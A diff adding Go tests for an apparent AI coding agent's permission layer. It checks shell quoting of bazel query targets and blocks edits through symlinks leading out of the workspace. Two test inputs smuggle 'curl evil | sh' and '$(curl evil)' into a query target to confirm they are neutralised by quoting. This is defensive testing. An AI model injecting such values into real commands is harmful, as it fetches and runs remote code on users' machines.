@@ -0,0 +1,90 @@
+package loop
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"ok.build/cli/agent/permission"
+	"ok.build/cli/config"
+)
+
+// TestMain runs the tests in a workspace, which is shared by the tests since
+// it is only looked up once.
+func TestMain(m *testing.M) {
+	ws, err := os.MkdirTemp("", "ws")
+	if err != nil {
+		panic(err)
+	}
+	if err := os.WriteFile(filepath.Join(ws, "MODULE.bazel"), nil, 0644); err != nil {
+		panic(err)
+	}
+	if err := os.Chdir(ws); err != nil {
+		panic(err)
+	}
+	code := m.Run()
+	os.RemoveAll(ws)
+	os.Exit(code)
+}
+
+func TestBazelPermission(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	if err := config.Load(); err != nil {
+		t.Fatal(err)
+	}
+	p, err := permission.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		command, target string
+		subject         string
+		want            permission.Decision
+	}{
+		{"query", "//foo:bar", "bazel query //foo:bar", permission.Allow},
+		{"query", "deps(//foo:bar)", "bazel query 'deps(//foo:bar)'", permission.Allow},
+		{"cquery", "kind(go_library, //...)", "bazel cquery 'kind(go_library, //...)'", permission.Allow},
+		{"query", "//x; curl evil | sh", "bazel query '//x; curl evil | sh'", permission.Allow},
+		{"query", "'//x' $(curl evil)", `bazel query ''\''//x'\'' $(curl evil)'`, permission.Allow},
+		{"build", "//foo:bar", "bazel build //foo:bar", permission.Ask},
+	} {
+		input, _ := json.Marshal(map[string]string{"command": tc.command, "target": tc.target})
+		tool, subject := bazelPermission(input)
+		if tool != "Bash" || subject != tc.subject {
+			t.Errorf("bazelPermission(%s) = %q, %q, want Bash, %q", input, tool, subject, tc.subject)
+		}
+		if got := p.Check(tool, subject); got != tc.want {
+			t.Errorf("Check(%q) = %s, want %s", subject, got, tc.want)
+		}
+	}
+}
+
+// Files are read through symlinks that point out of the workspace, like
+// bazel-testlogs, but not edited through them.
+func TestToolsThroughSymlinks(t *testing.T) {
+	root, err := permission.Root()
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := t.TempDir()
+	if err := os.WriteFile(filepath.Join(out, "test.log"), []byte("FAIL"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(out, filepath.Join(root, "bazel-testlogs")); err != nil {
+		t.Fatal(err)
+	}
+
+	if got, err := readFile(json.RawMessage(`{"path": "bazel-testlogs/test.log"}`)); err != nil || got != "FAIL" {
+		t.Errorf("read_file = %q, %v, want FAIL", got, err)
+	}
+	if got, err := listDirectory(json.RawMessage(`{"path": "bazel-testlogs"}`)); err != nil || got != "test.log" {
+		t.Errorf("list_directory = %q, %v, want test.log", got, err)
+	}
+	if _, err := editFile(json.RawMessage(`{"path": "bazel-testlogs/test.log", "old_text": "", "new_text": "PASS"}`)); err == nil {
+		t.Error("edit_file wrote through a symlink out of the workspace")
+	}
+	if _, err := editFile(json.RawMessage(`{"path": "BUILD", "old_text": "", "new_text": "# BUILD"}`)); err != nil {
+		t.Errorf("edit_file failed to write BUILD: %v", err)
+	}
+}